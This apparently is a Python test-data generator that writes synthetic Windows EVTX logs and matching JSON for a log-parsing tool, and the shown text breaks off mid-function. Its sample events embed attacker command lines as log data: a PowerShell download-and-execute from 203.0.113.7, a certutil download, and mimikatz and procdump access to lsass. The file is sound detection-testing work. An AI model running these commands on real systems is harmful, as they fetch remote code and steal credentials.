#!/usr/bin/env python3
"""mkevtx.py - writes Windows EVTX files (and the same events as evtx_dump and
winlogbeat JSON) for trawl's tests and benchmarks. Standard library only.

No tool on a Debian machine writes EVTX, so this one does, from the format
description in libevtx's documentation: a 4096-byte file header, 64 KiB
chunks with their CRC32s, and event records holding binary XML, every record
a template instance (the template defined inline at its first use in a chunk
and referenced by offset afterwards) followed by its typed substitution
values - the way Windows writes them.

  mkevtx.py testdata DIR        the committed test files (tests/data/evtx)
  mkevtx.py bench FILE N        N records of mixed shapes (benchmarks)
  mkevtx.py probe               the C arrays of src/input/evtx_probe.c

Output is deterministic: the same command writes the same bytes.
"""
import datetime
import json
import os
import struct
import sys
import uuid
import zlib

CHUNK = 65536
HEADER_BLOCK = 4096
EPOCH_1601 = datetime.datetime(1601, 1, 1, tzinfo=datetime.timezone.utc)

# value types of binary XML substitutions
T_NULL, T_STR, T_I32, T_U8, T_U16, T_U32, T_U64 = 0x00, 0x01, 0x07, 0x04, 0x06, 0x08, 0x0A
T_BIN, T_GUID, T_FILETIME, T_SID, T_HEX32, T_HEX64 = 0x0E, 0x0F, 0x11, 0x13, 0x14, 0x15


def u8(v): return struct.pack('<B', v)
def u16(v): return struct.pack('<H', v)
def u32(v): return struct.pack('<I', v)
def u64(v): return struct.pack('<Q', v)


def name_hash(name):
    h = 0
    for (c,) in struct.iter_unpack('<H', name.encode('utf-16-le')):
        h = (h * 65599 + c) & 0xFFFFFFFF
    return h & 0xFFFF


def utf16_units(s):
    return len(s.encode('utf-16-le')) // 2


# ------------------------------------------------------------------ values

class V:
    """A typed value: its binary form, its Windows rendering, its JSON forms."""

    def __init__(self, t, v):
        self.t, self.v = t, v

    def binary(self):
        t, v = self.t, self.v
        if t == T_NULL:
            return b''
        if t == T_STR:
            return v.encode('utf-16-le')
        if t in (T_U8,):
            return u8(v)
        if t == T_U16:
            return u16(v)
        if t in (T_U32, T_HEX32):
            return u32(v)
        if t == T_I32:
            return struct.pack('<i', v)
        if t in (T_U64, T_HEX64):
            return u64(v)
        if t == T_GUID:
            return uuid.UUID(v).bytes_le
        if t == T_FILETIME:
            return u64(v)
        if t == T_BIN:
            return bytes(v)
        if t == T_SID:
            parts = v.split('-')
            assert parts[0] == 'S'
            rev, auth, subs = int(parts[1]), int(parts[2]), [int(x) for x in parts[3:]]
            return bytes([rev, len(subs)]) + auth.to_bytes(6, 'big') + b''.join(u32(s) for s in subs)
        raise ValueError(t)

    def text(self):
        """As Windows renders it (Event Viewer XML, winlogbeat)."""
        t, v = self.t, self.v
        if t == T_NULL:
            return ''
        if t in (T_HEX32, T_HEX64):
            return '0x%x' % v
        if t == T_GUID:
            return '{%s}' % str(uuid.UUID(v)).upper()
        if t == T_BIN:
            return bytes(v).hex().upper()
        if t == T_FILETIME:
            return filetime_iso(v, 7)
        return str(v)

    def evtx_dump(self):
        """As evtx_dump (omerbenamram/evtx) writes it in JSON."""
        t, v = self.t, self.v
        if t == T_NULL:
            return None
        if t in (T_U8, T_U16, T_U32, T_U64, T_I32):
            return v
        if t == T_GUID:
            return str(uuid.UUID(v)).upper()
        if t == T_FILETIME:
            return filetime_iso(v, 6)
        return self.text()


def filetime(dt):
    d = dt - EPOCH_1601
    return (d.days * 86400 + d.seconds) * 10_000_000 + d.microseconds * 10


def filetime_iso(ft, digits):
    secs, ticks = divmod(ft, 10_000_000)
    dt = EPOCH_1601 + datetime.timedelta(seconds=secs)
    frac = ('%07d' % ticks)[:digits] if digits <= 7 else '%07d' % ticks + '0' * (digits - 7)
    return dt.strftime('%Y-%m-%dT%H:%M:%S.') + frac + 'Z'


def S(v): return V(T_STR, v)
def U8(v): return V(T_U8, v)
def U16(v): return V(T_U16, v)
def U32(v): return V(T_U32, v)
def U64(v): return V(T_U64, v)
def I32(v): return V(T_I32, v)
def H32(v): return V(T_HEX32, v)
def H64(v): return V(T_HEX64, v)
def G(v): return V(T_GUID, v)
def SID(v): return V(T_SID, v)
def BIN(v): return V(T_BIN, v)
NULL = V(T_NULL, None)


# ---------------------------------------------------------------- templates

class Sub:
    """A substitution in a template: value number idx, optional or normal."""

    def __init__(self, idx, t, optional=True):
        self.idx, self.t, self.optional = idx, t, optional


class E:
    """A template element: name, attributes [(name, Sub|str)], children."""

    def __init__(self, name, attrs=(), children=()):
        self.name, self.attrs, self.children = name, list(attrs), list(children)


# System substitution numbers (as in Windows' own system template, roughly)
SYS = dict(Level=0, Opcode=1, Task=2, EventID=3, Qualifiers=4, Keywords=5, TimeCreated=6,
           ActivityID=7, ProcessID=8, ThreadID=9, EventRecordID=10, Version=11, UserID=12,
           RelatedActivityID=13, ProviderGuid=14)
FIRST_DATA = 15


class Shape:
    """One kind of event: its provider, channel, System values and data layout."""

    def __init__(self, key, provider, guid, channel, event_id, version, level, task, opcode,
                 keywords, data, kind='named', qualifiers=None, source_name=None,
                 userdata=None):
        self.key, self.provider, self.guid, self.channel = key, provider, guid, channel
        self.event_id, self.version, self.level, self.task = event_id, version, level, task
        self.opcode, self.keywords, self.qualifiers = opcode, keywords, qualifiers
        self.data = data          # [(name, type)]; for 'classic' names are None/"Binary"
        self.kind = kind          # 'named', 'classic' or 'userdata'
        self.source_name = source_name
        self.userdata = userdata  # (element name, xmlns) for 'userdata'

    def template(self, computer):
        sys_el = E('System', children=[
            E('Provider', [('Name', self.provider), ('Guid', Sub(SYS['ProviderGuid'], T_GUID))] +
              ([('EventSourceName', self.source_name)] if self.source_name else [])),
            E('EventID', [('Qualifiers', Sub(SYS['Qualifiers'], T_U16))],
              [Sub(SYS['EventID'], T_U16)]),
            E('Version', children=[Sub(SYS['Version'], T_U8)]),
            E('Level', children=[Sub(SYS['Level'], T_U8)]),
            E('Task', children=[Sub(SYS['Task'], T_U16)]),
            E('Opcode', children=[Sub(SYS['Opcode'], T_U8)]),
            E('Keywords', children=[Sub(SYS['Keywords'], T_HEX64)]),
            E('TimeCreated', [('SystemTime', Sub(SYS['TimeCreated'], T_FILETIME))]),
            E('EventRecordID', children=[Sub(SYS['EventRecordID'], T_U64)]),
            E('Correlation', [('ActivityID', Sub(SYS['ActivityID'], T_GUID)),
                              ('RelatedActivityID', Sub(SYS['RelatedActivityID'], T_GUID))]),
            E('Execution', [('ProcessID', Sub(SYS['ProcessID'], T_U32)),
                            ('ThreadID', Sub(SYS['ThreadID'], T_U32))]),
            E('Channel', children=[self.channel]),
            E('Computer', children=[computer]),
            E('Security', [('UserID', Sub(SYS['UserID'], T_SID))]),
        ])
        items = []
        for i, (name, t) in enumerate(self.data):
            sub = Sub(FIRST_DATA + i, t)
            if self.kind == 'named':
                items.append(E('Data', [('Name', name)], [sub]))
            elif self.kind == 'classic':
                items.append(E(name or 'Data', children=[sub]))
            else:
                items.append(E(name, children=[sub]))
        if self.kind == 'userdata':
            el, ns = self.userdata
            body = E('UserData', children=[E(el, [('xmlns', ns)], items)])
        else:
            body = E('EventData', children=items)
        return E('Event', [('xmlns', 'http://schemas.microsoft.com/win/2004/08/events/event')],
                 [sys_el, body])


class Event:
    def __init__(self, shape, record_id, time, computer, values, pid=4, tid=100,
                 user=None, activity=None):
        self.shape, self.record_id, self.time, self.computer = shape, record_id, time, computer
        self.values = values  # [V] in shape.data order
        self.pid, self.tid, self.user, self.activity = pid, tid, user, activity
        assert len(values) == len(shape.data), shape.key

    def substitutions(self):
        sh = self.shape
        vals = [NULL] * (FIRST_DATA + len(self.values))
        vals[SYS['Level']] = U8(sh.level)
        vals[SYS['Opcode']] = U8(sh.opcode)
        vals[SYS['Task']] = U16(sh.task)
        vals[SYS['EventID']] = U16(sh.event_id)
        vals[SYS['Qualifiers']] = U16(sh.qualifiers) if sh.qualifiers is not None else NULL
        vals[SYS['Keywords']] = H64(sh.keywords)
        vals[SYS['TimeCreated']] = V(T_FILETIME, filetime(self.time))
        vals[SYS['ActivityID']] = G(self.activity) if self.activity else NULL
        vals[SYS['ProcessID']] = U32(self.pid)
        vals[SYS['ThreadID']] = U32(self.tid)
        vals[SYS['EventRecordID']] = U64(self.record_id)
        vals[SYS['Version']] = U8(sh.version)
        vals[SYS['UserID']] = SID(self.user) if self.user else NULL
        vals[SYS['ProviderGuid']] = G(sh.guid)
        vals[FIRST_DATA:] = self.values
        return vals


# ------------------------------------------------------------------ writing

class Chunk:
    """One 64 KiB chunk being filled with records."""

    def __init__(self):
        self.buf = bytearray(512)
        self.names = {}
        self.templates = {}
        self.first_id = self.last_id = None
        self.last_offset = 0

    def name_ref(self, out, base, name, names):
        if name in names:
            out += u32(names[name])
            return
        off = base + len(out) + 4
        names[name] = off
        out += u32(off) + u32(0) + u16(name_hash(name)) + u16(utf16_units(name))
        out += name.encode('utf-16-le') + b'\0\0'

    def value_token(self, out, item):
        if isinstance(item, Sub):
            out += bytes([0x0E if item.optional else 0x0D]) + u16(item.idx) + u8(item.t)
        else:
            out += b'\x05\x01' + u16(utf16_units(item)) + item.encode('utf-16-le')

    def element(self, out, base, el, names):
        start = len(out)
        out += bytes([0x41 if el.attrs else 0x01]) + u16(0xFFFF)
        size_at = len(out)
        out += u32(0)
        self.name_ref(out, base, el.name, names)
        if el.attrs:
            list_at = len(out)
            out += u32(0)
            for i, (an, av) in enumerate(el.attrs):
                out += bytes([0x46 if i + 1 < len(el.attrs) else 0x06])
                self.name_ref(out, base, an, names)
                self.value_token(out, av)
            out[list_at:list_at + 4] = u32(len(out) - list_at - 4)
        if not el.children:
            out += b'\x03'
        else:
            out += b'\x02'
            for c in el.children:
                if isinstance(c, E):
                    self.element(out, base, c, names)
                else:
                    self.value_token(out, c)
            out += b'\x04'
        out[size_at:size_at + 4] = u32(len(out) - start - 7)

    def record_bytes(self, ev, names, templates, template_ref=None):
        base = len(self.buf)
        out = bytearray(b'**\0\0' + u32(0) + u64(ev.record_id) + u64(filetime(ev.time)))
        out += b'\x0f\x01\x01\x00\x0c\x01'
        key = (ev.shape.key, ev.computer)
        out += u32(zlib.crc32(repr(key).encode()))  # template identifier (unused by readers)
        if template_ref is not None:
            out += u32(template_ref)
        elif key in templates:
            out += u32(templates[key])
        else:
            off = base + len(out) + 4
            templates[key] = off
            out += u32(off) + u32(0)
            out += uuid.UUID(int=zlib.crc32(repr(key).encode()) << 64 | 0x1234).bytes_le
            size_at = len(out)
            out += u32(0)
            dstart = len(out)
            out += b'\x0f\x01\x01\x00'
            self.element(out, base, ev.shape.template(ev.computer), names)
            out += b'\x00'
            out[size_at:size_at + 4] = u32(len(out) - dstart)
        vals = ev.substitutions()
        out += u32(len(vals))
        blobs = [v.binary() for v in vals]
        for v, b in zip(vals, blobs):
            out += u16(len(b)) + u8(v.t) + u8(0)
        for b in blobs:
            out += b
        out += b'\x00'
        out += bytes(-(len(out) + 4) % 8)  # records are 8-byte aligned
        out += u32(len(out) + 4)
        out[4:8] = u32(len(out))
        return out

    def add(self, ev, template_ref=None):
        names, templates = dict(self.names), dict(self.templates)
        rec = self.record_bytes(ev, names, templates, template_ref)
        if len(self.buf) + len(rec) > CHUNK:
            return False
        self.names, self.templates = names, templates
        self.last_offset = len(self.buf)
        self.buf += rec
        if self.first_id is None:
            self.first_id = ev.record_id
        self.last_id = ev.record_id
        return True

    def finish(self):
        b = self.buf
        free = len(b)
        h = bytearray(b'ElfChnk\0')
        h += u64(self.first_id) + u64(self.last_id) + u64(self.first_id) + u64(self.last_id)
        h += u32(128) + u32(self.last_offset) + u32(free) + u32(zlib.crc32(b[512:free]))
        h += bytes(64) + u32(1)
        b[0:len(h)] = h
        b[124:128] = u32(zlib.crc32(bytes(b[0:120]) + bytes(b[128:512])))
        return bytes(b) + bytes(CHUNK - free)


def write_evtx(events, records_per_chunk=None):
    chunks, cur, n = [], Chunk(), 0
    for ev in events:
        full = records_per_chunk is not None and n == records_per_chunk
        if full or not cur.add(ev):
            chunks.append(cur)
            cur, n = Chunk(), 0
            if not cur.add(ev):
                raise ValueError('record larger than a chunk')
        n += 1
    if cur.first_id is not None:
        chunks.append(cur)
    last_id = events[-1].record_id if events else 0
    h = bytearray(b'ElfFile\0')
    h += u64(0) + u64(max(len(chunks) - 1, 0)) + u64(last_id + 1)
    h += u32(128) + u16(1) + u16(3) + u16(HEADER_BLOCK) + u16(len(chunks))
    h += bytes(76) + u32(0)
    h += u32(zlib.crc32(bytes(h[:120])))
    out = bytes(h) + bytes(HEADER_BLOCK - len(h))
    return out + b''.join(c.finish() for c in chunks)


# ------------------------------------------------------------- JSON forms

def json_evtx_dump(ev):
    sh = ev.shape
    sysd = {'Provider': {'#attributes': dict([('Name', sh.provider), ('Guid', G(sh.guid).evtx_dump())] +
                                             ([('EventSourceName', sh.source_name)]
                                              if sh.source_name else []))}}
    if sh.qualifiers is not None:
        sysd['EventID'] = {'#attributes': {'Qualifiers': sh.qualifiers}, '#text': sh.event_id}
    else:
        sysd['EventID'] = sh.event_id
    sysd.update({'Version': sh.version, 'Level': sh.level, 'Task': sh.task, 'Opcode': sh.opcode,
                 'Keywords': H64(sh.keywords).evtx_dump(),
                 'TimeCreated': {'#attributes': {
                     'SystemTime': V(T_FILETIME, filetime(ev.time)).evtx_dump()}},
                 'EventRecordID': ev.record_id,
                 'Correlation': ({'#attributes': {'ActivityID': G(ev.activity).evtx_dump()}}
                                 if ev.activity else None),
                 'Execution': {'#attributes': {'ProcessID': ev.pid, 'ThreadID': ev.tid}},
                 'Channel': sh.channel, 'Computer': ev.computer,
                 'Security': {'#attributes': {'UserID': ev.user}} if ev.user else None})
    if sh.kind == 'named':
        body = {'EventData': {n: v.evtx_dump() for (n, _), v in zip(sh.data, ev.values)}}
    elif sh.kind == 'classic':
        data = [v.evtx_dump() for (n, _), v in zip(sh.data, ev.values) if n is None]
        ed = {'Data': {'#text': data}}
        for (n, _), v in zip(sh.data, ev.values):
            if n is not None:
                ed[n] = v.evtx_dump()
        body = {'EventData': ed}
    else:
        el, ns = sh.userdata
        inner = {'#attributes': {'xmlns': ns}}
        inner.update({n: v.evtx_dump() for (n, _), v in zip(sh.data, ev.values)})
        body = {'UserData': {el: inner}}
    event = {'#attributes': {'xmlns': 'http://schemas.microsoft.com/win/2004/08/events/event'},
             'System': sysd}
    event.update(body)
    return {'Event': event}


def json_winlogbeat(ev):
    sh = ev.shape
    ts = ev.time.strftime('%Y-%m-%dT%H:%M:%S.') + '%03dZ' % (ev.time.microsecond // 1000)
    w = {'channel': sh.channel, 'computer_name': ev.computer, 'event_id': str(sh.event_id),
         'provider_name': sh.provider, 'provider_guid': G(sh.guid).text(),
         'record_id': str(ev.record_id), 'api': 'wineventlog',
         'process': {'pid': ev.pid, 'thread': {'id': ev.tid}},
         'opcode': 'Info', 'version': sh.version, 'keywords': []}
    if ev.user:
        w['user'] = {'identifier': ev.user}
    if ev.activity:
        w['activity_id'] = G(ev.activity).text()
    if sh.kind == 'named' or sh.kind == 'userdata':
        key = 'event_data' if sh.kind == 'named' else 'user_data'
        w[key] = {n: v.text() for (n, _), v in zip(sh.data, ev.values)}
    else:
        # winlogbeat names unnamed classic data param1, param2, …
        ed, k = {}, 0
        for (n, _), v in zip(sh.data, ev.values):
            if n is None:
                k += 1
                ed['param%d' % k] = v.text()
            else:
                ed[n] = v.text()
        w['event_data'] = ed
    return {'@timestamp': ts,
            'event': {'code': str(sh.event_id), 'kind': 'event', 'provider': sh.provider,
                      'created': ts},
            'host': {'name': ev.computer},
            'log': {'level': 'information'},
            'winlog': w}


# ------------------------------------------------------------------ shapes

SYSMON = ('Microsoft-Windows-Sysmon', '5770385f-c22a-43e0-bf4c-06f5698ffbd9',
          'Microsoft-Windows-Sysmon/Operational')
SECURITY = ('Microsoft-Windows-Security-Auditing', '54849625-5478-4994-a5ba-3e3b0328c30d',
            'Security')

SHAPES = {
    'sysmon1': Shape('sysmon1', *SYSMON, 1, 5, 4, 1, 0, 0x8000000000000000, [
        ('RuleName', T_STR), ('UtcTime', T_STR), ('ProcessGuid', T_GUID), ('ProcessId', T_U32),
        ('Image', T_STR), ('FileVersion', T_STR), ('Description', T_STR), ('Product', T_STR),
        ('Company', T_STR), ('OriginalFileName', T_STR), ('CommandLine', T_STR),
        ('CurrentDirectory', T_STR), ('User', T_STR), ('LogonGuid', T_GUID),
        ('LogonId', T_HEX64), ('TerminalSessionId', T_U32), ('IntegrityLevel', T_STR),
        ('Hashes', T_STR), ('ParentProcessGuid', T_GUID), ('ParentProcessId', T_U32),
        ('ParentImage', T_STR), ('ParentCommandLine', T_STR)]),
    'sysmon3': Shape('sysmon3', *SYSMON, 3, 5, 4, 3, 0, 0x8000000000000000, [
        ('RuleName', T_STR), ('UtcTime', T_STR), ('ProcessGuid', T_GUID), ('ProcessId', T_U32),
        ('Image', T_STR), ('User', T_STR), ('Protocol', T_STR), ('Initiated', T_STR),
        ('SourceIsIpv6', T_STR), ('SourceIp', T_STR), ('SourceHostname', T_STR),
        ('SourcePort', T_U16), ('SourcePortName', T_STR), ('DestinationIsIpv6', T_STR),
        ('DestinationIp', T_STR), ('DestinationHostname', T_STR), ('DestinationPort', T_U16),
        ('DestinationPortName', T_STR)]),
    'sysmon11': Shape('sysmon11', *SYSMON, 11, 2, 4, 11, 0, 0x8000000000000000, [
        ('RuleName', T_STR), ('UtcTime', T_STR), ('ProcessGuid', T_GUID), ('ProcessId', T_U32),
        ('Image', T_STR), ('TargetFilename', T_STR), ('CreationUtcTime', T_STR)]),
    'sysmon13': Shape('sysmon13', *SYSMON, 13, 2, 4, 13, 0, 0x8000000000000000, [
        ('RuleName', T_STR), ('EventType', T_STR), ('UtcTime', T_STR), ('ProcessGuid', T_GUID),
        ('ProcessId', T_U32), ('Image', T_STR), ('TargetObject', T_STR), ('Details', T_STR)]),
    'sysmon10': Shape('sysmon10', *SYSMON, 10, 3, 4, 10, 0, 0x8000000000000000, [
        ('RuleName', T_STR), ('UtcTime', T_STR), ('SourceProcessGUID', T_GUID),
        ('SourceProcessId', T_U32), ('SourceThreadId', T_U32), ('SourceImage', T_STR),
        ('TargetProcessGUID', T_GUID), ('TargetProcessId', T_U32), ('TargetImage', T_STR),
        ('GrantedAccess', T_HEX32), ('CallTrace', T_STR)]),
    'sec4688': Shape('sec4688', *SECURITY, 4688, 2, 0, 13312, 0, 0x8020000000000000, [
        ('SubjectUserSid', T_SID), ('SubjectUserName', T_STR), ('SubjectDomainName', T_STR),
        ('SubjectLogonId', T_HEX64), ('NewProcessId', T_HEX64), ('NewProcessName', T_STR),
        ('TokenElevationType', T_STR), ('ProcessId', T_HEX64), ('CommandLine', T_STR),
        ('TargetUserSid', T_SID), ('TargetUserName', T_STR), ('TargetDomainName', T_STR),
        ('TargetLogonId', T_HEX64), ('ParentProcessName', T_STR), ('MandatoryLabel', T_SID)]),
    'sec4624': Shape('sec4624', *SECURITY, 4624, 2, 0, 12544, 0, 0x8020000000000000, [
        ('SubjectUserSid', T_SID), ('SubjectUserName', T_STR), ('SubjectDomainName', T_STR),
        ('SubjectLogonId', T_HEX64), ('TargetUserSid', T_SID), ('TargetUserName', T_STR),
        ('TargetDomainName', T_STR), ('TargetLogonId', T_HEX64), ('LogonType', T_U32),
        ('LogonProcessName', T_STR), ('AuthenticationPackageName', T_STR),
        ('WorkstationName', T_STR), ('LogonGuid', T_GUID), ('TransmittedServices', T_STR),
        ('LmPackageName', T_STR), ('KeyLength', T_U32), ('ProcessId', T_HEX64),
        ('ProcessName', T_STR), ('IpAddress', T_STR), ('IpPort', T_STR),
        ('ImpersonationLevel', T_STR), ('RestrictedAdminMode', T_STR),
        ('TargetOutboundUserName', T_STR), ('TargetOutboundDomainName', T_STR),
        ('VirtualAccount', T_STR), ('TargetLinkedLogonId', T_HEX64),
        ('ElevatedToken', T_STR)]),
    'sys7045': Shape('sys7045', 'Service Control Manager', '555908d1-a6d7-4695-8e1e-26931d2012f4',
                     'System', 7045, 0, 4, 0, 0, 0x8080000000000000, [
                         ('ServiceName', T_STR), ('ImagePath', T_STR), ('ServiceType', T_STR),
                         ('StartType', T_STR), ('AccountName', T_STR)],
                     qualifiers=16384, source_name='Service Control Manager'),
    'ps4104': Shape('ps4104', 'Microsoft-Windows-PowerShell', 'a0c1853b-5c40-4b15-8766-3cf1c58f985a',
                    'Microsoft-Windows-PowerShell/Operational', 4104, 1, 5, 2, 15, 0x0, [
                        ('MessageNumber', T_I32), ('MessageTotal', T_I32),
                        ('ScriptBlockText', T_STR), ('ScriptBlockId', T_STR), ('Path', T_STR)]),
    'sec1102': Shape('sec1102', 'Microsoft-Windows-Eventlog', 'fc65ddd8-d6ef-4962-83d5-6e5cfe9ce148',
                     'Security', 1102, 0, 4, 104, 0, 0x4020000000000000, [
                         ('SubjectUserSid', T_SID), ('SubjectUserName', T_STR),
                         ('SubjectDomainName', T_STR), ('SubjectLogonId', T_HEX64)],
                     kind='userdata',
                     userdata=('LogFileCleared',
                               'http://manifests.microsoft.com/win/2004/08/windows/eventlog')),
    'app1040': Shape('app1040', 'MsiInstaller', '00000000-0000-0000-0000-000000000000',
                     'Application', 1040, 0, 4, 0, 0, 0x0080000000000000, [
                         (None, T_STR), (None, T_STR), (None, T_STR), ('Binary', T_BIN)],
                     kind='classic', qualifiers=0),
    # a Sysmon-channel event written by another provider (routing must not treat it as Sysmon)
    'fake_sysmon1': Shape('fake_sysmon1', 'Contoso-Agent', '11111111-2222-3333-4444-555555555555',
                          'Microsoft-Windows-Sysmon/Operational', 1, 0, 4, 1, 0,
                          0x8000000000000000, [('Image', T_STR), ('CommandLine', T_STR),
                                               ('ParentImage', T_STR)]),
}

T0 = datetime.datetime(2021, 3, 4, 10, 0, 0, tzinfo=datetime.timezone.utc)
PGUID = 'dfae8213-5b49-5cdd-0000-0010ee520500'
LGUID = 'dfae8213-5b49-5cdd-0000-0020e7030000'


def t(sec, ms=0):
    return T0 + datetime.timedelta(seconds=sec, milliseconds=ms)


def ev_sysmon1(rid, sec, image, cmd, parent='C:\\Windows\\explorer.exe', computer='WKS01.contoso.local',
               pid=4242, user='CONTOSO\\alice', logon=0x3e7, hashes=None):
    return Event(SHAPES['sysmon1'], rid, t(sec, 250), computer, [
        S('-'), S(t(sec, 250).strftime('%Y-%m-%d %H:%M:%S.250')), G(PGUID), U32(pid), S(image),
        S('10.0.19041.1'), S('Windows Command Processor'), S('Microsoft® Windows® Operating System'),
        S('Microsoft Corporation'), S(os.path.basename(image.replace('\\', '/'))), S(cmd),
        S('C:\\Users\\alice\\'), S(user), G(LGUID), H64(logon), U32(1), S('High'),
        S(hashes or 'SHA256=7AE581DB760BCEEE4D18D6DE7BB98F46584656A65D9435B4E0C4223798F416D2'),
        G('dfae8213-5b49-5cdd-0000-001077470100'), U32(1000), S(parent), S(parent)],
        pid=1980, tid=2012, user='S-1-5-18')


def ev_sysmon3(rid, sec, image, dst, port):
    return Event(SHAPES['sysmon3'], rid, t(sec, 500), 'WKS01.contoso.local', [
        S('-'), S(t(sec, 500).strftime('%Y-%m-%d %H:%M:%S.500')), G(PGUID), U32(4242), S(image),
        S('CONTOSO\\alice'), S('tcp'), S('true'), S('false'), S('10.1.2.3'), S('WKS01'),
        U16(49723), S('-'), S('false'), S(dst), S('-'), U16(port), S('-')],
        pid=1980, tid=3020, user='S-1-5-18')


def ev_sysmon11(rid, sec, image, target):
    return Event(SHAPES['sysmon11'], rid, t(sec, 750), 'WKS01.contoso.local', [
        S('-'), S(t(sec, 750).strftime('%Y-%m-%d %H:%M:%S.750')), G(PGUID), U32(4242), S(image),
        S(target), S(t(sec, 750).strftime('%Y-%m-%d %H:%M:%S.750'))],
        pid=1980, tid=3020, user='S-1-5-18')


def ev_sysmon13(rid, sec, image, key, details):
    return Event(SHAPES['sysmon13'], rid, t(sec, 125), 'WKS01.contoso.local', [
        S('-'), S('SetValue'), S(t(sec, 125).strftime('%Y-%m-%d %H:%M:%S.125')), G(PGUID),
        U32(4242), S(image), S(key), S(details)],
        pid=1980, tid=3020, user='S-1-5-18')


def ev_sysmon10(rid, sec, src, target, access):
    return Event(SHAPES['sysmon10'], rid, t(sec, 375), 'WKS01.contoso.local', [
        S('-'), S(t(sec, 375).strftime('%Y-%m-%d %H:%M:%S.375')), G(PGUID), U32(4242), U32(5150),
        S(src), G('dfae8213-5b49-5cdd-0000-0010a1b20000'), U32(640), S(target), H32(access),
        S('C:\\Windows\\SYSTEM32\\ntdll.dll+9c584|UNKNOWN(00000000001A1A2B)')],
        pid=1980, tid=3020, user='S-1-5-18')


def ev_4688(rid, sec, image, cmd, parent, newpid=0x1c4, computer='DC01.contoso.local'):
    return Event(SHAPES['sec4688'], rid, t(sec), computer, [
        SID('S-1-5-21-3461203602-4096304019-2269080069-1104'), S('alice'), S('CONTOSO'),
        H64(0x3e7), H64(newpid), S(image), S('%%1936'), H64(0x1f4), S(cmd), SID('S-1-0-0'),
        S('-'), S('-'), H64(0x0), S(parent), SID('S-1-16-12288')], pid=4, tid=5060)


def ev_4624(rid, sec, user, ip, logon_type=3):
    return Event(SHAPES['sec4624'], rid, t(sec, 5), 'DC01.contoso.local', [
        SID('S-1-0-0'), S('-'), S('-'), H64(0), SID('S-1-5-21-3461203602-4096304019-2269080069-500'),
        S(user), S('CONTOSO'), H64(0x1b7f3a), U32(logon_type), S('NtLmSsp '), S('NTLM'),
        S('KALI'), G('00000000-0000-0000-0000-000000000000'), S('-'), S('NTLM V2'), U32(128),
        H64(0), S('-'), S(ip), S('50123'), S('%%1833'), S('-'), S('-'), S('-'), S('%%1843'),
        H64(0), S('%%1842')], pid=640, tid=4200)


def ev_7045(rid, sec, name, path):
    return Event(SHAPES['sys7045'], rid, t(sec, 10), 'SRV01.contoso.local', [
        S(name), S(path), S('user mode service'), S('demand start'), S('LocalSystem')],
        pid=632, tid=3880, user='S-1-5-21-3461203602-4096304019-2269080069-500',
        activity='b1f2e0a5-9c1b-4f3e-8d7a-1a2b3c4d5e6f')


def ev_4104(rid, sec, text, computer='WKS01.contoso.local'):
    return Event(SHAPES['ps4104'], rid, t(sec, 20), computer, [
        I32(1), I32(1), S(text), S('9fa2c7b1-0c4e-4b8b-9b8e-3f1f9e4b2a11'), S('')],
        pid=5012, tid=5440, user='S-1-5-21-3461203602-4096304019-2269080069-1104',
        activity='f0e1d2c3-b4a5-4697-8899-aabbccddeeff')


def ev_1102(rid, sec):
    return Event(SHAPES['sec1102'], rid, t(sec, 30), 'DC01.contoso.local', [
        SID('S-1-5-21-3461203602-4096304019-2269080069-500'), S('Administrator'), S('CONTOSO'),
        H64(0x1b7f3a)], pid=1024, tid=6010)


def ev_1040(rid, sec):
    return Event(SHAPES['app1040'], rid, t(sec, 40), 'WKS01.contoso.local', [
        S('C:\\Users\\alice\\AppData\\Local\\Temp\\setup.msi'), S('1'), S('(NULL)'),
        BIN(b'(NULL)\x00')], pid=0, tid=0)


def ev_fake_sysmon1(rid, sec):
    return Event(SHAPES['fake_sysmon1'], rid, t(sec, 60), 'WKS01.contoso.local', [
        S('C:\\Windows\\System32\\whoami.exe'), S('whoami /all'),
        S('C:\\Windows\\System32\\cmd.exe')], pid=700, tid=701, user='S-1-5-18')


def shapes_events():
    """One event of every shape, with the awkward values: XML specials,
    non-ASCII text (a character outside the BMP too), padded hex values."""
    return [
        ev_sysmon1(1, 0, 'C:\\Windows\\System32\\cmd.exe',
                   'cmd.exe /c "echo a&b <x> \'y\'" && whoami',
                   computer='WKS-ÅSA.contoso.local'),
        ev_sysmon3(2, 1, 'C:\\Windows\\System32\\rundll32.exe', '203.0.113.7', 443),
        ev_sysmon11(3, 2, 'C:\\Windows\\System32\\certutil.exe',
                    'C:\\Users\\Public\\Grüße 日本 🐟.exe'),
        ev_sysmon13(4, 3, 'C:\\Windows\\regedit.exe',
                    'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\updater',
                    'C:\\Users\\Public\\updater.exe'),
        ev_4688(5, 4, 'C:\\Windows\\System32\\whoami.exe', 'whoami /priv',
                'C:\\Windows\\System32\\cmd.exe'),
        ev_4624(6, 5, 'Administrator', '198.51.100.23'),
        ev_7045(7, 6, 'PSEXESVC', '%SystemRoot%\\PSEXESVC.exe'),
        ev_4104(8, 7, "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1') # Grüße"),
        ev_1102(9, 8),
        ev_1040(10, 9),
        ev_sysmon10(11, 10, 'C:\\Users\\Public\\mimikatz.exe', 'C:\\Windows\\system32\\lsass.exe',
                    0x1010),
    ]


def many_events(n, start_id=100):
    evs = []
    for i in range(n):
        rid = start_id + i
        k = i % 4
        if k == 0:
            evs.append(ev_sysmon1(rid, 100 + i, 'C:\\Windows\\System32\\cmd.exe',
                                  'cmd.exe /c echo record %d' % rid))
        elif k == 1:
            evs.append(ev_4688(rid, 100 + i, 'C:\\Windows\\System32\\net.exe',
                               'net user /domain %d' % rid, 'C:\\Windows\\System32\\cmd.exe'))
        elif k == 2:
            evs.append(ev_sysmon3(rid, 100 + i, 'C:\\Windows\\System32\\svchost.exe',
                                  '10.0.%d.%d' % (i // 250, i % 250), 445))
        else:
            evs.append(ev_4104(rid, 100 + i, 'Get-Process | Where-Object { $_.Id -eq %d }' % rid))
    return evs


def parity_events():
    """Events for the EVTX / evtx_dump / winlogbeat parity test."""
    return [
        ev_sysmon1(201, 0, 'C:\\Windows\\System32\\whoami.exe', 'whoami /all',
                   parent='C:\\Windows\\System32\\cmd.exe'),
        ev_sysmon1(202, 1, 'C:\\Windows\\System32\\certutil.exe',
                   'certutil.exe -urlcache -split -f http://203.0.113.7/a.exe a.exe',
                   parent='C:\\Windows\\System32\\cmd.exe'),
        ev_sysmon10(203, 2, 'C:\\Users\\Public\\procdump64.exe', 'C:\\Windows\\system32\\lsass.exe',
                    0x1fffff),
